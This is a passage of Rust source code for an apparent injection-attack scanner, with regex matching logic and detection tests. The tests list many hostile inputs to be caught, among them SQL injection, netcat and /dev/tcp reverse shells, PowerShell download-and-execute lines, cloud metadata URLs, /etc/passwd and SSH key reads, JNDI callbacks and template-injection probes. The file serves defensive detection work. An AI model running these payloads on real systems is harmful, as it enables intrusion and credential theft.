    }

    fn scan_group(
        &self,
        group: &GroupRules,
        text: &str,
        enabled: &impl Fn(Family) -> bool,
        hits: &mut Vec<PatternHit>,
    ) {
        // Most values match nothing: a search that may stop at the first match is cheaper
        // than the overlapping one that names every rule, which only an attack then pays for.
        if !group.set.is_match(text) {
            return;
        }
        for matched in group.set.matches(text).iter() {
            let index = group.rules[matched];
            let rule = &RULES[index];
            if !enabled(rule.family) {
                continue;
            }
            if !rule.reads_quoted_code && !self.matches_outside_quoted_code(index, text) {
                continue;
            }
            let finder = &self.finders[index];
            let found = match rule.confirms {
                Some(confirms) => confirmed_match(finder, text, confirms),
                None => finder.find(text),
            };
            if let Some(found) = found {
                hits.push(PatternHit {
                    rule,
                    start: found.start(),
                    end: found.end(),
                });
            }
        }
    }
}

/// The first match of `finder` in `text` that `confirms` accepts. Matches may overlap: one
/// that is not confirmed must not hide the next one that starts inside it (a table's cell,
/// `x | python 3.12 | id`, shares its closing pipe with the command after it).
fn confirmed_match<'t>(
    finder: &Regex,
    text: &'t str,
    confirms: fn(&str, &str, &str) -> bool,
) -> Option<regex::Match<'t>> {
    let mut from = 0;
    while let Some(found) = finder.find_at(text, from) {
        if confirms(&text[..found.start()], found.as_str(), &text[found.end()..]) {
            return Some(found);
        }
        from = text.ceil_char_boundary(found.start() + 1);
    }
    None
}

/// Every rule id, the pattern rules' and the structural checks': a fixed set, fit for a
/// metric label.
pub fn rule_ids() -> impl Iterator<Item = &'static str> {
    RULES.iter().map(|r| r.id).chain(super::STRUCTURAL_RULES)
}

/// Word boundaries (`\b`) are read as ASCII ones. A Unicode word boundary stops the regex
/// crate's DFA at the first non-ASCII byte and falls back to a far slower engine: a kilobyte
/// of Polish or Japanese text cost a millisecond per scan. Every keyword the rules look for
/// is ASCII, so an ASCII boundary finds the same attacks.
fn ascii_word_boundaries(pattern: &str) -> String {
    pattern.replace(r"\b", r"(?-u:\b)")
}

fn compile(id: &str, pattern: &str) -> Regex {
    Regex::new(&ascii_word_boundaries(pattern))
        .unwrap_or_else(|err| panic!("built-in rule {id} does not compile: {err}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_rule_compiles_and_ids_are_unique() {
        let rules = PatternRules::compile();
        assert_eq!(rules.finders.len(), RULES.len());
        let mut ids: Vec<_> = RULES.iter().map(|r| r.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), RULES.len());
    }

    fn hit_ids(rules: &PatternRules, forms: Forms, text: &str) -> Vec<&'static str> {
        let mut hits = Vec::new();
        rules.scan(forms, text, |_| true, &mut hits);
        let mut ids: Vec<_> = hits.iter().map(|h| h.rule.id).collect();
        ids.sort_unstable();
        ids.dedup();
        ids
    }

    #[test]
    fn a_group_finds_what_its_forms_find_one_by_one() {
        let rules = PatternRules::compile();
        let text = "1 union select password from users; cat /etc/passwd";
        let mut one_by_one: Vec<_> = [Form::Plain, Form::Sql, Form::Shell]
            .into_iter()
            .flat_map(|form| hit_ids(&rules, Forms::of(form), text))
            .collect();
        one_by_one.sort_unstable();
        one_by_one.dedup();
        let grouped = Forms::PLAIN.with(Form::Sql).with(Form::Shell);
        assert!(one_by_one.len() >= 2, "{one_by_one:?}");
        assert_eq!(hit_ids(&rules, grouped, text), one_by_one);
        // A group without a compiled set of its own is scanned form by form.
        let uncompiled = Forms::PLAIN.with(Form::Markup);
        assert_eq!(
            hit_ids(&rules, uncompiled, text),
            hit_ids(&rules, Forms::PLAIN, text)
        );
    }

    /// `rule` finds each of `hits` and none of `misses` in texts of `forms`.
    fn assert_finds(forms: Forms, rule: &str, hits: &[&str], misses: &[&str]) {
        let rules = PatternRules::compile();
        for text in hits {
            assert!(
                hit_ids(&rules, forms, text).contains(&rule),
                "{rule} misses {text:?}"
            );
        }
        for text in misses {
            assert!(
                !hit_ids(&rules, forms, text).contains(&rule),
                "{rule} finds {text:?}"
            );
        }
    }

    #[test]
    fn loopback_and_metadata_hosts_are_found_in_every_spelling() {
        assert_finds(
            Forms::PLAIN,
            "rfi-loopback-url",
            &[
                "http://0/",
                "http://0:8080/admin",
                "http://017700000001/",
                "http://0177.0.0.1/",
                "http://[0:0:0:0:0:ffff:127.0.0.1]/",
                "http://[::ffff:7f00:1]/",
                "http://[::1]/",
                "http://localtest.me/",
                "http://admin.localhost:8080/",
                "http://127.0.0.1.nip.io/",
                "http://app-127-0-0-1.sslip.io/x",
                "http://localhost:6379/\r\nset x 1\r\n",
            ],
            &[
                "http://localhost:8080/ returns 404, why?",
                "http://0.example.com/x",
                "http://lvh.media/",
                "http://127.0.0.1.example.com/",
                "https://01.org/",
                "http://[::ffff:10.0.0.1]/",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "rfi-metadata-endpoint",
            &[
                "http://[::ffff:a9fe:a9fe]/latest",
                "http://2852039166/",
                "http://0xa9fea9fe/",
            ],
            &["call 2852039166 today", "[::ffff:a9fe:a9fe]"],
        );
        assert_finds(
            Forms::PLAIN,
            "rfi-metadata-endpoint",
            &[
                "169.254.169.254",
                "host=169.254.169.254",
                "curl 169.254.169.254/latest/meta-data/",
                "fetch metadata.google.internal",
                "http://metadata.google.internal/computemetadata/v1/",
                "http://169.254.170.2/v2/credentials",
                "http://192.0.0.192/latest/",
            ],
            &["the metadata server at 169.254.169.254 is unreachable from my pod"],
        );
    }

    #[test]
    fn windows_system_files_and_input_redirection_are_found() {
        assert_finds(
            Forms::PLAIN,
            "lfi-absolute-sensitive",
            &[
                "c:\\boot.ini",
                "c:\\inetpub\\wwwroot\\web.config",
                "/etc/passwd",
                " /proc/self/environ%00.jpg ",
            ],
            &[
                "c:\\users\\me\\boot.ini.txt",
                "see boot.ini",
                "/etc/nginx/nginx.conf has a syntax error, how do i fix it?",
            ],
        );
        assert_finds(
            Forms::of(Form::Shell),
            "rce-leading-command",
            &["cat</etc/passwd", "cat < ~/.ssh/id_rsa"],
            &["cat <3 dogs"],
        );
        assert_finds(
            Forms::PLAIN,
            "ssti-arithmetic-probe",
            &["{{7*'7'}}", "${\"7\"*7}"],
            &["{{ price * quantity }}", "{{'7'}}"],
        );
    }

    #[test]
    fn a_pause_counts_in_sql_not_in_a_program() {
        assert_finds(
            Forms::of(Form::Sql),
            "sqli-time-delay",
            &[
                "sleep(2)",
                "1 and sleep(5)",
                "sleep(5)#",
                "1)or sleep(5)--",
                "x'=sleep(5)='",
                "test{${sleep(12)}}",
                "sleep(5) and 1",
                "1 and get_lock('etgp',5)",
                "1'=get_lock(\"x\", 10)-- -",
                "sleep(if(1=1,5,0))",
                "sleep (if (length(database())=8, 5, 0))",
                "sleep((select 5))",
            ],
            &[
                "i'd rather sleep (if possible) than wait",
                "how does select get_lock('job', 10) work?",
                "time.sleep(5)",
                "thread.sleep(1000);",
                "await asyncio.sleep(1)",
                "why does sleep(5) not pause my script?",
                "usleep(500) vs sleep(1) in c",
                "sleep(0.5) # half a second",
            ],
        );
    }

    #[test]
    fn java_reflection_counts_when_it_reaches_a_command_or_a_system_class() {
        assert_finds(
            Forms::PLAIN,
            "java-runtime-exec",
            &[
                "runtime.getruntime().exec(\"id\")",
                "runtime.getruntime ( ) . exec ( cmd )",
                "class.forname(\"java.lang.runtime\")",
                "class.forname('javax.script.scriptenginemanager')",
                "t(java.lang.runtime).getruntime().exec('id')",
            ],
            &[
                "runtime.getruntime().availableprocessors()",
                "class.forname(\"com.mysql.jdbc.driver\")",
                "class.forname(\"org.postgresql.driver\")",
            ],
        );
    }

    #[test]
    fn glob_named_commands_and_out_of_band_hosts_are_found() {
        assert_finds(
            Forms::of(Form::Shell),
            "rce-glob-command",
            &[
                ";/???/??t /???/p??s??",
                "|/b?n/c?t /etc/passwd",
                "/???/??t /etc/passwd",
            ],
            &["a;/usr/bin/env", "/* comment */", "see /docs/faq?/x"],
        );
        assert_finds(
            Forms::PLAIN,
            "rfi-oast-domain",
            &[
                "http://abc123.oastify.com/x",
                "${jndi:ldap://x.oast.me/a}",
                "nslookup q1w2.burpcollaborator.net",
            ],
            &[
                "what is burpcollaborator.net?",
                "we use oast.me for testing",
            ],
        );
        assert_finds(Forms::PLAIN, "rfi-loopback-url", &["http://[::]:80/"], &[]);
    }

    /// Prose a lazy DFA's cache must hold the states of before it fills: about as much as a
    /// worker thread reads in 1,400 chat turns of all-new text.
    const PROSE_PER_CLEAR: usize = 1 << 20;

    /// The regex crate searches a set with its lazy DFA only when the DFA's first states fit
    /// in its cache, and gives the DFA up when the cache fills again and again while holding
    /// few bytes per state; it then searches with a PikeVM, ten to a thousand times slower,
    /// every verdict unchanged. A rule with a Unicode class in a repetition or negated (`\w*`,
    /// `[^.\w]`) did that three times, and the crate's default cache of 2 MiB did it on varied
    /// prose, once every 150 KB. Each group is built here as the crate builds it. Over prose
    /// (the prompts, the benign corpus, a developer's chat: 3 MB) its cache may fill at most
    /// once per [`PROSE_PER_CLEAR`] read, as the corpus grows its states will; over attack
    /// payloads (the CRS cases' lines) and the generated text an attacker would send it may
    /// fill more often, as sets near the cache's size do, but the DFA must never be given up.
    #[test]
    fn no_rule_set_outgrows_the_lazy_dfa_cache() {
        use regex_automata::{Input, hybrid};

        let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus");
        let read = |path: &std::path::Path| std::fs::read_to_string(path).unwrap();
        let mut prose: Vec<String> = Vec::new();
        for file in ["jailbreaks.jsonl", "ordinary.jsonl"] {
            for line in read(&corpus.join("prompts").join(file)).lines() {
                let value: serde_json::Value = serde_json::from_str(line).unwrap();
                prose.push(value["text"].as_str().unwrap().to_lowercase());
            }
        }
        prose.extend(
            read(&corpus.join("benign.txt"))
                .lines()
                .map(str::to_lowercase),
        );
        prose.push(read(&corpus.join("benign-chat.txt")).to_lowercase());
        let mut attacks: Vec<String> = Vec::new();
        for family in std::fs::read_dir(corpus.join("crs")).unwrap() {
            for file in std::fs::read_dir(family.unwrap().path())
                .into_iter()
                .flatten()
            {
                attacks.extend(read(&file.unwrap().path()).lines().map(str::to_lowercase));
            }
        }
        attacks.extend(crate::fuzzing::generated_text());
        let config = hybrid::dfa::Config::new()
            .cache_capacity(LAZY_DFA_CACHE_BYTES)
            .skip_cache_capacity_check(false)
            .minimum_cache_clear_count(Some(3))
            .minimum_bytes_per_state(Some(10));
        for group in PatternRules::compile().groups {
            let patterns: Vec<String> = group
                .rules
                .iter()
                .map(|&i| ascii_word_boundaries(RULES[i].pattern))
                .collect();
            // The crate builds a forward and a reverse lazy DFA; when either needs more than
            // the cache for its first states, it does without both.
            let built = hybrid::regex::Builder::new()
                .dfa(config.clone())
                .build_many(&patterns);
            if let Err(err) = built {
                panic!("no lazy DFA for {:?} within its cache: {err}", group.forms);
            }
            let dfa = hybrid::dfa::DFA::builder()
                .configure(config.clone())
                .build_many(&patterns)
                .unwrap();
            let mut cache = dfa.create_cache();
            let mut read = 0;
            for text in &prose {
                let searched = dfa.try_search_fwd(&mut cache, &Input::new(text));
                read += text.len();
                assert!(
                    searched.is_ok() && cache.clear_count() * PROSE_PER_CLEAR <= read,
                    "the lazy DFA of {:?} filled its cache {} times in {read} bytes, at {:?}",
                    group.forms,
                    cache.clear_count(),
                    text.chars().take(60).collect::<String>()
                );
            }
            // A cache of its own for the attacks: the crate gives up only after a number of
            // clears, counted over the cache's life, so a shared cache made this verdict turn on
            // how much prose came before (one more benign line could tip it).
            let mut cache = dfa.create_cache();
            for text in &attacks {
                let searched = dfa.try_search_fwd(&mut cache, &Input::new(text));
                assert!(
                    searched.is_ok(),
                    "the lazy DFA of {:?} was given up ({} clears) on {:?}",
                    group.forms,
                    cache.clear_count(),
                    text.chars().take(60).collect::<String>()
                );
            }
        }
    }

    #[test]
    fn schemes_behind_java_and_python_aliases_are_found() {
        assert_finds(
            Forms::PLAIN,
            "rfi-dangerous-scheme",
            &[
                "url:file:///etc/passwd",
                "url:file://foo.bar",
                "local_file://something",
                "file:///etc/passwd",
            ],
            &["url: https://example.com", "my local_file.txt"],
        );
    }

    #[test]
    fn a_quote_closed_into_a_call_and_a_comment_is_sql() {
        assert_finds(
            Forms::of(Form::Sql),
            "sqli-quote-logic-call",
            &[
                "' or f(x)--",
                "x' and user_defined_fn (1)#",
                "admin@example.com'and not sqlite_compileoption_get (id)--",
                "admin@example.com' or sqlite_compileoption_used (id)--",
                "1' || char(65)-- -",
                "admin@example.com\\' or json_valid (id);",
                "'or(id glob 1)--",
            ],
            &[
                "pick 'red' or blue (your call) --",
                "it's 'a' or b(2); see page 4",
                "it's 'a' or b(2) in the book, see page 4",
                "was it 'a' or f(x)? -- no idea",
            ],
        );
    }

    #[test]
    fn a_delay_joined_to_a_closed_quote_is_found() {
        assert_finds(
            Forms::of(Form::Sql),
            "sqli-time-delay",
            &[
                "2010-01-01'+sleep(20.to_i)+'",
                "x\" sleep(10.to_i) \"",
                "'||pg_sleep(10)--",
            ],
            &["i said 'sleep (8 hours)' twice", "'sleep' is a verb"],
        );
    }

    #[test]
    fn a_value_that_opens_with_a_closed_statement_is_found() {
        assert_finds(
            Forms::of(Form::Sql),
            "sqli-stacked-query",
            &["';", "';print'", "');#", "\";"],
            &["it's; fine", "say 'hi'; then go", "a';"],
        );
        assert_finds(
            Forms::of(Form::Sql),
            "sqli-stacked-query",
            &[
                "1; shutdown",
                "'; shutdown --",
                "1;shutdown with nowait",
                "x'; update users set password='x'--",
                "1; update app.users set role = 'admin'",
            ],
            &[
                "ok; shutdown the old one (2 items)",
                "the account; update the settings (if possible).",
            ],
        );
    }

    #[test]
    fn a_subquery_into_nested_calls_is_found() {
        assert_finds(
            Forms::of(Form::Sql),
            "sqli-subquery",
            &[
                "1 and ord(mid((select ifnull(cast(username as nchar),0x20) from users),1,1))>64",
                "(select count(*) from users)",
                "(select version())",
            ],
            &[
                "(select one (or two) of them)",
                "please (select the option(s) you want)",
            ],
        );
    }

    #[test]
    fn a_relative_path_in_quoted_code_is_no_traversal() {
        assert_finds(
            Forms::PLAIN,
            "lfi-traversal",
            &[
                "../../etc/passwd",
                "`../../../../x`",
                "see ../../lib/api for it",
                "a `b` then ../../x outside the code",
            ],
            &[
                "import it with `import { api } from \"../../lib/api\"` in the page",
                "move it:\n```js\nimport b from '../../components/button';\n```\nthen build",
            ],
        );
    }

    #[test]
    fn an_operator_between_quotes_at_the_end_is_a_login_bypass() {
        assert_finds(
            Forms::PLAIN,
            "sqli-quote-operator-quote",
            &[
                "admin'='",
                "'='",
                "admin' = '",
                "jo.smith@example.com'-'",
                "x'^' ",
                "bob'='",
                "x'='x",
                "1'='1",
            ],
            &[
                "sep = b'-'",
                "pattern = r'|'",
                "(r'(-)?(' + _decpart + r'|' +",
                "sep = '='",
                "use '-' or '*' as the mark",
                "the ratio 'a'='b' holds",
                "don't='",
            ],
        );
    }

    #[test]
    fn numbers_like_or_between_numbers_at_the_end_are_a_tautology() {
        assert_finds(
            Forms::of(Form::Sql),
            "sqli-boolean-tautology",
            &[
                "1 or 1 like 1",
                "1 or 1==1",
                "1 and 7 between 7 and 7",
                "x' or 2 like 2--",
                "1 and 5329 like 5329-- abc",
                "1 and 1 rlike 1",
                "1 or 7 regexp 7#",
                "1) or 2>1--",
                "') or ('a'<'b",
                "1) or id <= 5",
                "1) or id <> 5",
                "x' or id < 5",
            ],
            &[
                "close > sma(200) or close < ema(50)",
                "(close > open) and volume > 100",
                "take 4 or 5 like 10 people did",
                "call on day 1 or 2 between 9 and 5 pm",
                "1 or 1 likes",
            ],
        );
    }

    #[test]
    fn an_empty_call_is_a_probe_alone_and_prose_among_words() {
        assert_finds(
            Forms::PLAIN,
            "php-exec-function",
            &[
                "system()",
                " base64_decode ( ) ",
                "phpinfo()",
                "x system('id')",
            ],
            &[
                "don't call eval() on user input",
                "exec() runs a command",
                "fs.readfile('a file that does not exist')",
                "$pdo->exec('delete from t')",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "php-exec-function",
            &[
                "<?php exec('id');",
                "<?=system($_get[0])?>",
                "1;passthru('id')",
                "{{ os.system('id') }}",
                "readfile('/etc/passwd')",
            ],
            &[],
        );
    }

    #[test]
    fn css_expressions_count_in_css_not_in_prose() {
        assert_finds(
            Forms::PLAIN,
            "xss-css-script",
            &[
                "<div style=\"width: expression(alert(1))\">",
                "x{background:expression (alert(1))}",
            ],
            &[
                "simplify the regular expression (rich trott)",
                "the expression(s) it evaluates",
            ],
        );
    }

    #[test]
    fn a_comparison_in_a_table_cell_is_no_redirection() {
        assert_finds(
            Forms::of(Form::Shell),
            "rce-separator-command",
            &["| gcc > /tmp/x", "x| cat >out.txt", ";id >"],
            &["| linux | gcc >= 10.1 |", "| python >= 3.8 | yes |"],
        );
    }

    #[test]
    fn schema_changes_count_where_a_query_would_run_them() {
        assert_finds(
            Forms::of(Form::Sql),
            "sqli-ddl",
            &[
                "alter table users add admin int",
                "1'; alter table users drop column email--",
                "1 alter table users add x int",
                "x\"); create function f() returns int",
                "create or replace function exec(cmd text) returns text",
                // A line comment between the break-out and the statement.
                "1;#x\nalter table users add admin int",
                "1; -- x\n#y\n alter table users add admin int",
                "x';-- x alter table users add admin int",
            ],
            &[
                "fix a bug that prevents alter table ... rename from working",
                "my migration has alter table users add column last_login; is that safe?",
                "why does create function f() fail in mysql 8?",
                "see the docs -- section 3\nwe alter table users add a column there",
            ],
        );
    }

    #[test]
    fn command_functions_called_by_name_or_on_a_command_are_php() {
        assert_finds(
            Forms::PLAIN,
            "php-command-call",
            &[
                "system(whoami)",
                "(system)(whoami)",
                "('system')('whoami')",
                "(\"system  \")(\"whoami\")",
                "x;exec(ls -la)",
                "array_map('system',array('id'))",
                "array_filter(['id'], 'passthru')",
                "register_shutdown_function('system', 'id')",
                "usort($_get, 'assert')",
            ],
            &[
                "the (system) (as a whole) works",
                "my system (id card) expired",
                "exec(command) runs it",
                "array_map('trim', $lines)",
                "usort($rows, 'compare_by_system')",
            ],
        );
    }

    #[test]
    fn empty_template_literals_are_not_template_objects() {
        assert_finds(
            Forms::PLAIN,
            "ssti-template-object",
            &[
                "{{''.__class__}}",
                "{{ \"\"|attr('x') }}",
                "{{[].pop}}",
                "{{config}}",
                "{{ self.x }}",
            ],
            &["my first prompt is: {{ \"\" }} how", "{{ '' }}"],
        );
    }

    #[test]
    fn jinja_range_is_a_template_object_and_go_range_a_loop() {
        assert_finds(
            Forms::PLAIN,
            "ssti-template-object",
            &[
                "{{range.__init__.__globals__}}",
                "{{ range(10)|list }}",
                "{{range}}",
            ],
            &[
                "{{range .items}}{{.name}}{{end}}",
                "{{- range $i, $v := .values }}",
            ],
        );
    }

    #[test]
    fn mail_commands_after_a_line_break_are_found() {
        assert_finds(
            Forms::PLAIN,
            "rce-mail-command",
            &[
                "\r\nmail from:<a@b.com>",
                "\r\nrcpt to:<postmaster>",
                "\r\nehlo test.com",
                "\r\na001 examine inbox",
                "\r\ndata",
                "\r\nquit\r\n",
                "\r\nretr 123",
                "\r\ntop 1 2",
                "\na1 quit",
            ],
            &[
                "we received this mail from mars",
                "\r\ndata\r\nthe table shows the results",
                "\nlist 3 things to buy",
                "\nhelp me please",
                "rcpt to:<postmaster>",
            ],
        );
    }

    #[test]
    fn cmd_exe_loops_and_conditionals_are_found() {
        let shell = Forms::of(Form::Shell);
        assert_finds(
            shell,
            "rce-windows",
            &[
                "for %variable in (set) do command",
                "& for %- in (a,b,c) do cmd",
                "& for %~ in (a,b,c)do cmd",
                "for /f tokens=1,2* delims=, %% in (c:\\mydocu~1\\a.txt) do echo %%",
                "; iex (iwr http://x/a.ps1)",
                "iex(new-object net.webclient).downloadstring('http://x/a')",
                "& iex $payload",
            ],
            &[
                "looking for 50% in (2024) sales",
                "for x in (1, 2): print(x)",
                "iex(1)> enum.map([1, 2], &(&1 * 2))",
                "run iex -s mix phx.server",
            ],
        );
        assert_finds(
            shell,
            "rce-windows-if",
            &[
                "if %~1 == %~2 (exit /b 0) else (exit /b 1)",
                "if [%1]==[/?] ...",
                "if %var% == before (",
                "if not %1 == (",
                "if !var! == after @echo ok",
                "if /i a==b foo",
                "if/i not a==b foo",
            ],
            &[
                "if n%2==0: print(n)",
                "if x == 2 (mostly) then stop",
                "if a==b then c",
            ],
        );
    }

    #[test]
    fn ruby_and_perl_command_syntax_is_found() {
        assert_finds(
            Forms::PLAIN,
            "rce-script-command",
            &[
                "%x('ls -al /')",
                "%x(id)",
                "qx{cat /etc/passwd}",
                "@{[system \"touch /tmp/x\"]}",
                "@{ [ uc 'hello' ] }",
                "process.spawn(\"id\")",
            ],
            &[
                "printf(\"%x (%d)\", n)",
                "0x1f is %x (hex)",
                "email me @ {name}",
                "the process spawn (fork) model",
            ],
        );
    }

    #[test]
    fn a_value_that_loops_forever_is_found() {
        assert_finds(
            Forms::PLAIN,
            "node-endless-loop",
            &["while(true);", "while(!0)", " while(new Date)", "for(;;){}"],
            &[
                "while (you wait) we pack",
                "meanwhile(ish)",
                "wait while(1) runs",
                "while(!true);",
                "while(false)",
                "while(0);",
            ],
        );
    }

    #[test]
    fn a_script_call_after_a_statement_break_is_found() {
        assert_finds(
            Forms::PLAIN,
            "xss-js-sink-after-break",
            &[";alert(123);", "x;prompt(1)", "; confirm`1`"],
            &["stop; alert() is blocking", "done; alert (the team) later"],
        );
    }

    #[test]
    fn node_programs_run_and_processes_ended_count_but_not_the_api_named() {
        assert_finds(
            Forms::PLAIN,
            "node-code-injection",
            &[
                "require('child_process').exec('id')",
                "require(\"node:child_process\")",
                "require('fs').readfilesync('/etc/passwd')",
                "require('node:vm').runinthiscontext('1')",
                "import('child_process').then(m => m.exec('id'))",
                "child_process.execsync('cat /etc/passwd')",
                "global.process.mainmodule.require('fs')",
                "';process.exit();//",
                "1;process.kill(process.pid)",
                "process.binding('spawn_sync')",
            ],
            &[
                "use child_process.spawn() for long-running programs",
                "[`process.exit()`]: process.md#processexitcode",
                "migrate process.binding('config') to getoptions()",
                "you may call process.exit(code) when appropriate",
                "see [advanced serialization for `child_process`][]",
                "const fs = require('node:fs');",
                "const fs = require('node:fs').promises;",
                "require('node:net').connect(-1);",
            ],
        );
    }

    #[test]
    fn an_executable_comment_counts_with_sql_or_a_version() {
        assert_finds(
            Forms::PLAIN,
            "sqli-mysql-comment",
            &[
                "1/*!union*//*!select*/1,2",
                "/*!50000select*/ 1",
                "x/*! and 1=1*/",
                "/*!12345UNION*/",
                "/*!'a'*/",
            ],
            &[
                "/*! jquery v3.6.0 | (c) openjs foundation */",
                "/*! for license information please see main.js.license.txt */",
                "/*! crate docs: please file an issue */",
                "/*! and fit in a single line */",
                "/*! version: 2.1.0 */",
                "/*! original author: someone */",
                "/*! 2024 example corp */",
            ],
        );
    }

    #[test]
    fn a_named_pipe_counts_when_it_is_made() {
        assert_finds(
            Forms::of(Form::Shell),
            "rce-shell-path",
            &[
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
                "mkfifo -m 600 ./p",
                "mkfifo backpipe; nc -l 4444 0<backpipe",
            ],
            &[
                "use mkfifo to create a named pipe",
                "mkfifo(FIFO_NAME, Mode::S_IRWXU)?;",
                "https://www.man7.org/linux/man-pages/man3/mkfifo.3.html",
            ],
        );
    }

    #[test]
    fn a_shell_counts_where_it_runs_not_where_prose_names_it() {
        assert_finds(
            Forms::of(Form::Shell),
            "rce-shell-path",
            &[
                "/bin/sh",
                "a;/bin/sh",
                "echo id | /bin/sh",
                "x && /usr/local/bin/bash",
                "nc -e /bin/sh 10.0.0.1 4444",
                "nc 10.0.0.1 4444 -e /bin/bash",
                "exec /bin/sh",
                "sudo /bin/bash",
                "find . -exec /bin/sh ;",
                "user /bin/sh -c id",
                "exec 196<>/dev/tcp/10.0.0.1/4242; /bin/sh <&196 >&196 2>&196",
                "shell=/bin/zsh",
            ],
            &[
                "fixed test script compatibility with ancient /bin/sh",
                "use /bin/bash to work around a job handling issue in dash.",
                "up to 15% speedup with dash as /bin/sh, and",
                "freebsd's /bin/sh does not support that",
            ],
        );
    }

    #[test]
    fn a_tagged_template_call_is_not_a_sentence_before_code() {
        assert_finds(
            Forms::PLAIN,
            "xss-js-tagged-call",
            &[
                "[].sort.call`${alert}1`",
                "x. call`y`",
                "reflect.apply.call `alert`",
                "[  ] . sort . call ` ${ alert } 1337 `",
            ],
            &["1. call `tcpstream::connect`", "done. apply `fix` next"],
        );
    }

    #[test]
    fn a_quoted_hash_in_prose_is_not_a_comment() {
        assert_finds(
            Forms::of(Form::Sql),
            "sqli-quote-comment",
            &["admin'#", "admin'# ", "1'#!x", "x') #"],
            &[
                "if i wrote '# rootkit' as a heading",
                "press '#' then enter",
            ],
        );
    }

    #[test]
    fn markdown_table_cells_are_not_pipelines() {
        assert_finds(
            Forms::of(Form::Shell),
            "rce-separator-command",
            &[
                "127.0.0.1 | id",
                "x|id|base64",
                "|whoami|",
                "a || id",
                "; id | base64",
                "| ls -la |",
                // A number the command acts on, an address, or a cell hiding the next command.
                "| sleep 5 |",
                "| ping 10.0.0.1 |",
                "x| python 3.12 |",
                "x | python 3.12 | id",
                "x | python 3.12 | sleep 5 |",
            ],
            &[
                "| id | name | type |\n|----|------|------|\n| 1 | cat | env |",
                "| tool | version |\n|---|---|\n| python 3.12 | fast |\n| openssl 3.0.2 | ok |",
                // Regular-expression alternations that end in a command's name.
                "create .(cvs|git)ignore if not present",
                "tcl_(create|find)hashentry",
            ],
        );
    }

    #[test]
    fn keywords_next_to_non_ascii_letters_still_match() {
        let rules = PatternRules::compile();
        let text = "é 1 union select password from users";
        assert!(hit_ids(&rules, Forms::of(Form::Sql), text).contains(&"sqli-union-select"));
    }

    #[test]
    fn probes_from_payload_lists_beyond_the_crs_are_found() {
        let shell = Forms::of(Form::Shell);
        assert_finds(
            shell,
            "rce-windows",
            &[
                "& net user hacker p@ss /add",
                "| net localgroup administrators hacker /add",
                "& reg query hklm\\software",
                "; get-childitem c:\\",
                "| get-content /etc/passwd",
                "invoke-webrequest http://x/a.ps1 -outfile a.ps1",
                "invoke-expression -command file.ps1",
                "$c | invoke-expression",
                "(new-object net.webclient).downloadfile('http://x/a.exe', 'a.exe')",
                "start-process calc.exe",
                "set-executionpolicy bypass -scope process",
            ],
            &[
                "gross & net user revenue grew",
                "the registry: reg query is read-only",
                "run get-childitem to list files",
                // PowerShell named in prose.
                "how does downloadstring work in powershell?",
                "use invoke-expression carefully, it runs any string",
                "start-process and invoke-webrequest are cmdlets",
            ],
        );
        assert_finds(
            shell,
            "rce-separator-command",
            &[
                "x && sleep 5 #",
                ";dig @8.8.8.8 x.attacker.com",
                "x; sh -c id",
                "curl x | sh",
                "x;id )",
            ],
            &["step 1 && sleep 8 hours #goals", "| sh | bash | zsh |"],
        );
        assert_finds(
            shell,
            "rce-separator-command",
            &[
                ";chmod 777 /etc/shadow",
                "x && chmod u+s /bin/bash",
                "| chmod 4755 ~/x",
            ],
            &[
                "chmod 755 /usr/local/bin/tool",
                "set the mode; chmod 644 is enough",
            ],
        );
        assert_finds(
            shell,
            "rce-separator-redirect",
            &[
                ";> /etc/passwd",
                "x && >> ~/.bashrc",
                "|| > ../app.log",
                "1|>/tmp/x",
            ],
            &[
                "make &> /dev/null",
                "> /etc/hosts is where names live",
                "a > b; c > d",
                "if (a;> b)",
            ],
        );
        assert_finds(
            Forms::of(Form::Shell),
            "rce-substitution",
            &["$(cmd)", "$( powershell -c x)"],
            &["$(document).ready()", "$(this).hide()"],
        );
        assert_finds(
            Forms::PLAIN,
            "rce-spreadsheet-dde",
            &[
                "=cmd|' /c calc'!a0",
                "@sum(1+1)*cmd|' /c calc'!a0",
                "-2+3+cmd|' /c calc'!d2",
                "=dde(\"cmd\";\"/c calc\";\"!a0\")",
            ],
            &[
                "| cmd | 'calc' |",
                "use dde (dynamic data exchange)",
                "=sum(a1:a3)",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "xss-js-global-index",
            &[
                "window['ale'+'rt'](1)",
                "top[/al/.source+/ert/.source](1)",
                "self[atob('ywxlcnq=')](1)",
            ],
            &["window['on' + name] = handler", "the top[3] items (ranked)"],
        );
        assert_finds(
            Forms::PLAIN,
            "lfi-traversal",
            &["..././..././etc/passwd"],
            &["wait.../. what"],
        );
        assert_finds(
            Forms::PLAIN,
            "lfi-absolute-sensitive",
            &[
                "\\\\?\\c:\\windows\\win.ini",
                "\\\\localhost\\c$\\windows\\win.ini",
            ],
            &[],
        );
        assert_finds(
            Forms::PLAIN,
            "lfi-xinclude",
            &["<xi:include parse=\"text\" href=\"file:///etc/passwd\"/>"],
            &["xi: include the header file"],
        );
        assert_finds(
            Forms::PLAIN,
            "java-expression-language",
            &[
                "${class.getclassloader()}",
                "${class.classloader}",
                "%{#context['xwork.methodaccessor.denymethodexecution']=false}",
                "${#a=(new java.lang.processbuilder('id')).start()}",
                "%{@java.lang.runtime@getruntime().exec('id')}",
                "${@print(chr(122))}",
                "${@$b}(12)",
            ],
            &[
                "${classname}",
                "fixed ${#word} expansion to compute the length of a string",
                "${#foo[x]}, where x is 0, @, or *",
                "parameters for the ${@:0:n} expansion",
                "how $@ expands in ${@:+set}",
            ],
        );
        assert_finds(
            Forms::PLAIN,
            "rce-ifs",
            &[
                ";cat$ifs/etc/passwd",
                ";${ifs}cat${ifs}/etc/passwd",
                "1;sleep${ifs}5;",
                ";cat$ifs$9/etc/passwd",
            ],
            &[
                "character of $ifs was not a space.",
                "word splitting when $ifs contained a tab",
                "changes using ${ifs:=value} to modify it",
            ],
        );
        assert_finds(Forms::PLAIN, "ssti-arithmetic-probe", &["{{=7*7}}"], &[]);
        assert_finds(
            Forms::PLAIN,
            "rfi-loopback-url",
            &[
                "http://0x7f.0x0.0x0.0x1/",
                "http://0x7f.1/",
                "http://localhost./",
            ],
